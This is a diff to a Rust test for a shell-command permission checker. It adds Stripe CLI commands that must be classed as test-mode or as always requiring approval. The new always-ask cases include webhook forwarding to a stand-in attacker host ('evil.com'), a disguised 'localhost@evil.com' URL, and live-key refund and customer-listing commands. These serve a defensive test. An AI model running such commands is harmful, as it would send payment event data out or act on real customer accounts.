@@ -4358,6 +4358,8 @@ fn stripe_cli_test_mode_is_one_family_and_live_mode_always_asks() {
     for s in [
         "stripe listen --forward-to localhost:3000/webhooks/stripe",
         "stripe listen -f http://localhost:3000/webhooks/stripe --events customer.subscription.updated",
+        "stripe listen --forward-to=127.0.0.1:3000/webhooks",
+        "STRIPE_API_KEY=sk_test_51Hx0000000000000000 stripe trigger invoice.paid",
         "stripe listen",
         "stripe trigger customer.subscription.updated --override subscription:items[0][price]=price_pro_monthly_test",
         "stripe fixtures fixtures/stripe/upgrade.json",
@@ -4385,6 +4387,14 @@ fn stripe_cli_test_mode_is_one_family_and_live_mode_always_asks() {
         "stripe listen --forward-to https://hooks.example.net/stripe",
         "stripe listen -f webhook.example.net:443/stripe",
         "stripe listen --forward-to http://10.0.0.5:3000/webhooks",
+        // Found in review: any address but this machine's, in any spelling.
+        "stripe listen --forward-to evil.com/hook",
+        "stripe listen -f http://evil/hook",
+        "stripe listen --forward-to=evil:8080",
+        "stripe listen --forward-to 'localhost@evil.com/x'",
+        "stripe listen --forward-to localhost:3000/hook --forward-connect-to evil.com/connect",
+        "STRIPE_API_KEY=$LIVE stripe refunds create --charge ch_1",
+        "STRIPE_API_KEY=sk_live_51Hx0000000000000000 stripe customers list",
     ] {
         let v = judge(s, &ENV);
         assert_eq!(v.level, AlwaysAsk, "{s}: {} ({})", v.row, v.reason);
